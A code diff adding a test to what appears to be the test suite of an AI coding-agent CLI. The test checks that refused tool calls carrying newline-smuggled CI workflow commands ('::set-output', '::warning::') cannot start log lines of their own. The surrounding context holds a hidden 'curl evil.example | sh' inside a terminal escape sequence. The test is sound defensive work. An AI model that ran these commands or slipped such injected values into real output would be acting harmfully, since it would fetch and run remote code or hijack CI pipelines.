@@ -123,4 +123,20 @@ describe('elbow -p prints nothing from outside that a terminal would act on (rea
     assert.ok(run.stderr.includes('✓ read_file(notes\\x1b[8mcurl evil.example | sh\\x1b[28m.txt)'), run.stderr);
     assert.ok(run.stderr.includes('elbow: refused without approval: run `touch \\x1b]52;c;'), run.stderr);
   });
+
+  it('a refused command or path with a newline stays on its refusal line, so it starts no line of its own (a CI log reads `::` lines as commands)', async () => {
+    const { server, cwd } = fixture;
+    server.enqueue(
+      { kind: 'reply', content: [toolCall('run_command', { command: 'true\n::set-output name=branch::main', outside_sandbox: true, reason: 'It needs the network.' })] },
+      { kind: 'reply', content: [toolCall('read_file', { path: '/etc/x\n::warning::from the model' })] },
+      { kind: 'reply', content: [text('done')] },
+    );
+    const run = await runElbow(['-p', 'look', '--cwd', cwd], elbowEnvironment(server, 'openai'));
+    assert.equal(run.code, 0, run.stderr);
+    const refusals = run.stderr.split('\n').filter((line) => line.startsWith('elbow: refused without approval: '));
+    assert.equal(refusals.length, 2, run.stderr);
+    assert.ok(refusals[0]?.includes('true⏎::set-output name=branch::main'), run.stderr);
+    assert.ok(refusals[1]?.includes('/etc/x⏎::warning::from the model'), run.stderr);
+    assert.deepEqual(run.stderr.split('\n').filter((line) => line.trimStart().startsWith('::')), []);
+  });
 });
